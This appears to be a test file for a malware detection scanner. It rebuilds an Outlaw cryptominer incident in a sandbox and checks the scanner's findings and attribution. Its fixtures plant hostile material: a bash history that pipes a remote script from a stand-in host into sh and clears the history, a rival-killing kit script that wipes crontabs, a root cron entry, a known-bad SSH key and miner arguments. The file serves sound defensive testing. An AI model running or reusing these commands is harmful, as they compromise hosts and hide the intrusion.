import { afterAll, describe, expect, it } from 'vitest';
import { expectStages, Scenario, WALLET } from './harness.js';

/**
 * Outlaw: SSH brute force, a ~/.configrc staging dir with a renamed XMRig (kswapd0) and a Perl shellbot posing as
 * rsync on IRC, the "mdrfckr" key, cron to restart both, and a dota-kit script that kills rivals and locks files.
 */
describe('scenario: Outlaw', () => {
  const s = new Scenario('outlaw', '127.0.0.11');
  afterAll(() => s.close());

  it('is one incident from execution to impact with IRC C2, attributed to Outlaw', async () => {
    await s.pool(3333);
    await s.irc(6697);
    const miner = s.binary('.configrc/a/kswapd0');
    const bot = s.binary('.configrc/b/rsync');
    s.plant('var/spool/cron/crontabs/root', `5 6 * * 0 ${miner} >/dev/null 2>&1\n@reboot ${bot}\n`, 0o600);
    s.plant(
      'root/.ssh/authorized_keys',
      'ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr\n',
      0o600,
    );
    s.plant(
      'tmp/.X25-unix/.rsync/initall',
      '#!/bin/sh\nkillall -9 xmrig kthreaddi\npkill -f ddgs\nchattr -iae ~/.ssh/authorized_keys\ncrontab -r\n',
      0o755,
    );
    // What the operator typed after logging in: fetch the kit, lock the miner, kill a rival, wipe the history.
    s.plant(
      'root/.bash_history',
      [
        'uname -a',
        'cd /tmp/.X25-unix/.rsync',
        'wget -qO- http://203.0.113.5/dota3.sh | sh',
        `chattr +i ${miner}`,
        'pkill -f kthreaddi',
        'history -c',
        '',
      ].join('\n'),
      0o600,
    );
    const m = await s.start(miner, ['kswapd0', '-o', `${s.ip}:3333`, '-u', WALLET, '-p', 'x', '-k'], {
      MWS_BURN: '1',
      MWS_POOL: `${s.ip}:3333`,
    });
    const b = await s.start(bot, ['rsync'], { MWS_IRC: `${s.ip}:6697` });
    await s.connected(2);
    const out = await s.scan();

    const { incident, findings } = s.incidentOf(out, 'proc.exe.writable-path', m.pid);
    const rules = findings.map((f) => f.ruleId);
    expect(rules).toEqual(
      expect.arrayContaining(['net.miner-port', 'net.irc-c2', 'net.writable-path-connection']),
    );
    expect(rules).toContain('persist.exec-from-writable-path');
    expect(findings.some((f) => f.entity.pid === b.pid)).toBe(true);
    expectStages(incident, ['execution', 'persistence', 'defense-evasion', 'command-and-control', 'impact']);
    expect(incident.severity).toBe('critical');
    expect(incident.attribution[0]).toMatchObject({ group: 'Outlaw' });
    expect(incident.attribution[0]?.indicators).toEqual(
      expect.arrayContaining(['staging directory ~/.configrc', 'miner named kswapd0']),
    );

    // The history names the miner's file, so it joins the miner's incident, line numbers and all.
    const history = findings.find((f) => f.ruleId === 'exec.history-dropper');
    expect(history).toMatchObject({
      entity: { kind: 'file', path: '/root/.bash_history' },
      evidence: {
        signs: ['chattr-immutable', 'download-to-shell', 'history-cleared', 'rival-kill'],
        lines: [{ line: 3 }, { line: 4 }, { line: 5 }, { line: 6 }],
      },
    });

    const key = out.findings.find((f) => f.ruleId === 'persist.ssh.known-bad-key');
    expect(key?.entity.path).toBe('/root/.ssh/authorized_keys');
    const kit = out.incidents.find((i) =>
      out.findings.some((f) => f.incidentId === i.id && f.ruleId === 'competitor.kill-miners'),
    );
    expectStages(kit, ['defense-evasion', 'impact']);
    expect(kit?.attribution[0]?.group).toBe('Outlaw');
  });
});
